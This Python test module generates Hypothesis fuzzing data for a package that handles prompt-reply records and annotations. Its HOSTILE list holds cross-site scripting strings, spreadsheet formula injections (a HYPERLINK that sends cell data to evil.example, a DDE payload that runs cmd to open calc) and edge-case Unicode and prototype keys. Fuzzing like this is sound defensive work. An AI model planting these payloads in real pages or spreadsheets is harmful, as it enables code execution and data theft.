"""Texts that do harm where they are taken for anything but text."""

from hypothesis import strategies as st

from hfdiv.data import Records
from hfdiv.data.annotation import Answer


HOSTILE = [
    "<script>window.pwned = 1</script>",
    "\"><img src=x onerror='window.pwned = 1'>",
    "</script><script>window.pwned = 1</script>",
    "<!-- <script>",
    "]]> &lt;b&gt; & &amp; {{DATA}} {{SCRIPT}}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "'quoted",
    "＝1+1",
    'a;b,c"d"\ne\r\nf\rg',
    "您好，<世界>",
    "👍🏽 <3 👨‍👩‍👧",
    "مرحبا \u202e<b>",
    "\u2028 line \u2029 paragraph \ufeff mark",
    "\0 nul \x1b escape",
    "__proto__",
    "constructor",
    " ",
    "",
]

texts = st.one_of(st.sampled_from(HOSTILE), st.text(st.characters(exclude_categories=["Cs"]), max_size=12))


@st.composite
def records(draw):
    """Groups with at least two different replies each, and a number for each reply."""
    n = draw(st.integers(1, 4))
    prompts = draw(st.lists(texts, min_size=n, max_size=n))
    groups = [draw(st.lists(texts, min_size=2, max_size=4, unique=True)) for _ in range(n)]
    return Records(prompts, groups, {"reward": [[float(len(text)) for text in group] for group in groups]})


def answered(tasks, annotator="Ann"):
    """An answer to every task, each possible one in turn."""
    values = tasks.answers
    return [Answer(task.id, annotator, values[place % len(values)], "here") for place, task in enumerate(tasks.tasks)]
